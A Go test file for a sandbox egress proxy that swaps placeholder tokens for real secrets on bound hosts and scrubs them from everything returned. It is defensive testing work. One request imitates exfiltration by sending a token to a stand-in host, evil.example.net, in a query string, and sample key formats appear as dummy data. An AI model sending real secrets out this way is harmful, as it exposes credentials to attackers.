package egress

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"testing/iotest"
	"unicode"
)

// TestSecretNeverLeaks drives every path a secret could take and scans everything the proxy
// produces (decisions, Summary, logs, metrics, answers to the sandbox, errors) for the value.
func TestSecretNeverLeaks(t *testing.T) {
	h := setup(t, nil)
	ph := h.placeholder(t)
	var seen bytes.Buffer // everything the sandbox side got back
	do := func(method, u string, hdr map[string]string) {
		req, _ := http.NewRequest(method, u, strings.NewReader("body "+ph))
		for k, v := range hdr {
			req.Header.Set(k, v)
		}
		resp, err := h.client(t).Do(req)
		if err != nil {
			seen.WriteString(err.Error())
			return
		}
		defer resp.Body.Close()
		if err := resp.Header.Write(&seen); err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(&seen, resp.Body); err != nil {
			t.Fatal(err)
		}
		if err := resp.Trailer.Write(&seen); err != nil {
			t.Fatal(err)
		}
	}
	auth := map[string]string{"Authorization": "Bearer " + ph, "X-Api-Key": ph}
	do("GET", "https://api.example.com/v1", auth)
	do("POST", "https://api.example.com/v1", auth)
	do("GET", "https://user:"+url.PathEscape(ph)+"@api.example.com/basic", nil)
	// The bound host hands back request fields it got: the swapped value must not come back.
	do("GET", "https://api.example.com/echo", map[string]string{"X-Request-Id": ph, "Origin": ph, "X-Echo": ph})
	do("GET", "https://api.example.com/echo", map[string]string{"X-Request-Id": "Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+ph))})
	do("GET", "https://pkg.example.com/", auth)
	do("GET", "http://api.example.com/", auth)
	do("GET", "https://lo.files.example.com/", auth)
	do("GET", "http://evil.example.net/?k="+ph, auth)
	_, reason := h.raw(t, getReq("http://plain.example.com/", "plain.example.com", "Authorization: "+ph+"\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n"))
	seen.WriteString(string(reason))

	// The value did reach the bound host, on TLS, and only there.
	if got := h.tlsUp.reqs[0].Header.Get("Authorization"); got != "Bearer "+realToken {
		t.Fatalf("the bound host saw %q, want the real value", redact(got))
	}
	if u, p, _ := h.tlsUp.reqs[2].BasicAuth(); u != "user" || p != realToken {
		t.Fatalf("Basic credentials to the bound host: %q, want the real value", redact(p))
	}
	for _, r := range append(h.tlsUp.reqs[5:], h.plainUp.reqs...) {
		for k, v := range r.Header {
			if strings.Contains(strings.Join(v, ","), realToken) {
				t.Errorf("%s %s got the real value in %s", r.Method, r.Host, k)
			}
		}
	}

	_, err := New(Config{}, Policy{Allow: []string{"a.example.com"}, Secrets: []Secret{{Env: "T", Value: realToken + "\n", Hosts: []string{"a.example.com"}}}})
	if !errors.Is(err, ErrInvalidPolicy) {
		t.Fatalf("New with a newline in a value: %v", err)
	}
	_, err2 := New(Config{}, Policy{Allow: []string{"a.example.com"}, Secrets: []Secret{{Env: "T", Value: realToken, Hosts: []string{"b.example.com"}}}})
	decisions, _ := json.Marshal(h.all())
	summary, _ := json.Marshal(h.proxy.Summary())
	outputs := map[string]string{
		"decisions": string(decisions), "summary": string(summary), "logs": h.logs.String(),
		"metrics": gatherText(t, h), "sandbox": seen.String(), "errors": err.Error() + err2.Error(),
	}
	for name, out := range outputs {
		if out == "" {
			t.Errorf("%s is empty: the scan would prove nothing", name)
		}
		if strings.Contains(out, realToken) {
			t.Errorf("the real value is in the %s", name)
		}
	}
	if enc := base64.StdEncoding.EncodeToString([]byte("u:" + realToken)); strings.Contains(seen.String(), enc) {
		t.Error("the real value came back to the sandbox in Basic credentials")
	}
	if s := h.proxy.Summary(); len(s.Secrets) != 1 || s.Secrets[0] != "EXAMPLE_TOKEN" {
		t.Errorf("Summary secrets %v, want [EXAMPLE_TOKEN]", s.Secrets)
	}
}

func gatherText(t *testing.T, h *harness) string {
	t.Helper()
	mfs, err := h.reg.Gather()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, mf := range mfs {
		b.WriteString(mf.String()) // every name, label value and sample
	}
	return b.String()
}

func TestPlaceholderShape(t *testing.T) {
	for _, value := range []string{realToken, "ghp_0123456789abcdefABCDEF0123456789abcd", "AKIA0123456789ABCDEF", "a.b-c_d/e+f=g0123456789"} {
		ph, err := placeholderFor(value)
		if err != nil {
			t.Fatal(err)
		}
		if ph == value || len(ph) != len(value) {
			t.Fatalf("placeholder %q for a %d-byte value", ph, len(value))
		}
		for i, c := range []byte(value) {
			p := ph[i]
			same := unicode.IsLower(rune(c)) == unicode.IsLower(rune(p)) && unicode.IsUpper(rune(c)) == unicode.IsUpper(rune(p)) &&
				unicode.IsDigit(rune(c)) == unicode.IsDigit(rune(p))
			if !same || (classOf(rune(c)) == "" && c != p) {
				t.Fatalf("placeholder %q differs in shape from the value at %d", ph, i)
			}
		}
	}
	if _, err := placeholderFor("short-1"); err == nil {
		t.Fatal("a value with 6 letters and digits got a placeholder")
	}
}

func TestEnv(t *testing.T) {
	h := setup(t, nil)
	env := map[string]string{}
	for _, kv := range h.proxy.Env("127.0.0.1:3128", "/etc/boxcar/ca.pem") {
		k, v, _ := strings.Cut(kv, "=")
		env[k] = v
	}
	for _, k := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"} {
		if env[k] != "http://127.0.0.1:3128" {
			t.Errorf("%s=%q", k, env[k])
		}
	}
	for _, k := range []string{"SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "PIP_CERT", "CURL_CA_BUNDLE"} {
		if env[k] != "/etc/boxcar/ca.pem" {
			t.Errorf("%s=%q", k, env[k])
		}
	}
	if env["NO_PROXY"] == "" || env["no_proxy"] != env["NO_PROXY"] {
		t.Errorf("NO_PROXY=%q no_proxy=%q", env["NO_PROXY"], env["no_proxy"])
	}
	if ph := env["EXAMPLE_TOKEN"]; ph == "" || ph == realToken || len(ph) != len(realToken) {
		t.Errorf("EXAMPLE_TOKEN is not a placeholder of the value's shape")
	}
}

// TestScrubBody: a value the upstream echoes in a body becomes its placeholder however the
// body is cut into reads (what waits for more is TestScrubBodyHoldsByLength's).
func TestScrubBody(t *testing.T) {
	swaps := []swap{{real: []byte("REAL-value-12"), ph: []byte("fake-value-99")}}
	tests := []struct {
		name, in, want string
		oneByte        bool
	}{
		{"whole in one read", "a REAL-value-12 b", "a fake-value-99 b", false},
		{"cut into single bytes", "a REAL-value-12 b REAL-value-12", "a fake-value-99 b fake-value-99", true},
		{"at the very end", "xREAL-value-12", "xfake-value-99", true},
		{"a prefix that is not the value", "REAL-value-1 REAL-v", "REAL-value-1 REAL-v", true},
		{"overlapping start", "REAL-REAL-value-12", "REAL-fake-value-99", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var r io.Reader = strings.NewReader(tt.in)
			if tt.oneByte {
				r = iotest.OneByteReader(r)
			}
			done := false
			got, err := io.ReadAll(newScrubBody(io.NopCloser(r), compileAll(swaps), func() { done = true }))
			if err != nil || string(got) != tt.want || !done {
				t.Fatalf("got %q, %v, done %v; want %q", got, err, done, tt.want)
			}
		})
	}
}

// TestScrubResponse: every part of an answer the sandbox reads is scrubbed: status line,
// header fields, body and trailers.
func TestScrubResponse(t *testing.T) {
	const real, ph = "REAL-value-12", "fake-value-99"
	swaps := []swap{{real: []byte(real), ph: []byte(ph)}}
	resp := &http.Response{
		Status: "400 bad id " + real, StatusCode: 400, ProtoMajor: 1, ProtoMinor: 1, ContentLength: -1, TransferEncoding: []string{"chunked"},
		Header:  http.Header{"X-Request-Id": {real}, "Access-Control-Allow-Origin": {"https://" + real}},
		Trailer: http.Header{"X-Echo": nil},
		Body:    io.NopCloser(strings.NewReader("quoted: " + real)),
	}
	resp.Body = trailerAtEOF{resp.Body, resp.Trailer, real}
	scrubResponse(resp, swaps)
	var out bytes.Buffer
	if err := resp.Write(&out); err != nil {
		t.Fatal(err)
	}
	wire := out.String()
	back, err := http.ReadResponse(bufio.NewReader(&out), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer back.Body.Close()
	body, err := io.ReadAll(back.Body)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(wire, real) || back.Status != "400 bad id "+ph || back.Header.Get("X-Request-Id") != ph ||
		back.Header.Get("Access-Control-Allow-Origin") != "https://"+ph || string(body) != "quoted: "+ph || back.Trailer.Get("X-Echo") != ph {
		t.Fatalf("answer as the sandbox reads it:\n%s", wire)
	}
}

// trailerAtEOF fills a trailer when its body ends, as the Transport does.
type trailerAtEOF struct {
	io.ReadCloser
	trailer http.Header
	value   string
}

func (b trailerAtEOF) Read(p []byte) (int, error) {
	n, err := b.ReadCloser.Read(p)
	if err == io.EOF {
		b.trailer.Set("X-Echo", b.value)
	}
	return n, err
}

// TestNarrowedBindingKeepsItsPort: a profile binds a secret to "*.example.com:443" (the API on
// 443; whatever else listens on the hosts' other ports must never see it) and allows
// "*.example.com". A job's network.allow of "api.example.com", which narrows the profile's,
// must leave the binding on port 443 ("api.example.com:443"): the job's sandbox must not get
// the real value sent to api.example.com:8443, where the proxy terminates the tunnel to scrub
// what the host holds (TestStoredEchoIsScrubbedUnderEveryName) and swaps nothing in.
func TestNarrowedBindingKeepsItsPort(t *testing.T) {
	t.Parallel()
	profile := Policy{
		Allow:   []string{"*.example.com"},
		Secrets: []Secret{{Env: "EXAMPLE_TOKEN", Value: realToken, Hosts: []string{"*.example.com:443"}}},
	}
	narrowed, err := Narrow(profile, []string{"api.example.com"})
	if err != nil {
		t.Fatalf("Narrow: %v", err)
	}
	t.Logf("the narrowed secret is bound to %q", narrowed.Secrets[0].Hosts)

	caPEM, _, leaf := testUpstreamCert(t, "api.example.com")
	got := make(chan string, 1)
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case got <- r.Header.Get("Authorization"):
		default:
		}
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{leaf}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	dialer := &stubDialer{routes: map[string]string{apiAddr + ":8443": srv.Listener.Addr().String()}}
	resolver := &stubResolver{names: testNames(), calls: map[string]int{}}
	cfg := Config{Resolver: resolver, Dialer: dialer, UpstreamCAPEM: caPEM,
		AllowedCIDRs: []netip.Prefix{netip.MustParsePrefix("198.18.0.0/15")}}
	for name, policy := range map[string]Policy{"profile": profile, "job": narrowed} {
		p, err := New(cfg, policy)
		if err != nil {
			t.Fatalf("New(%s): %v", name, err)
		}
		if n := len(p.policy.boundSecrets(host{name: "api.example.com"}, 8443)); n != 0 {
			t.Errorf("the %s's policy binds %d secret(s) to api.example.com:8443; the profile binds none", name, n)
		}
	}

	// And end to end: the job's proxy sends the value to port 8443.
	p, err := New(cfg, narrowed)
	if err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(t.TempDir(), "egress.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- p.Serve(ctx, ln) }()
	t.Cleanup(func() { cancel(); <-done })
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(p.CACertPEM())
	roots.AppendCertsFromPEM(caPEM)
	tr := &http.Transport{
		Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy.invalid:3128"}),
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "unix", sock)
		},
		TLSClientConfig: &tls.Config{RootCAs: roots}, DisableKeepAlives: true,
	}
	t.Cleanup(tr.CloseIdleConnections)
	var ph string
	for _, kv := range p.Env("127.0.0.1:3128", "") {
		if v, ok := strings.CutPrefix(kv, "EXAMPLE_TOKEN="); ok {
			ph = v
		}
	}
	req, _ := http.NewRequest(http.MethodGet, "https://api.example.com:8443/debug", nil)
	req.Header.Set("Authorization", "Bearer "+ph)
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err != nil {
		t.Fatalf("GET api.example.com:8443 through the job's proxy: %v", err)
	}
	resp.Body.Close()
	if a := <-got; strings.Contains(a, realToken) {
		t.Fatalf("api.example.com:8443 got the real value (%s); the profile binds it to port 443 only", redact(a))
	}
}
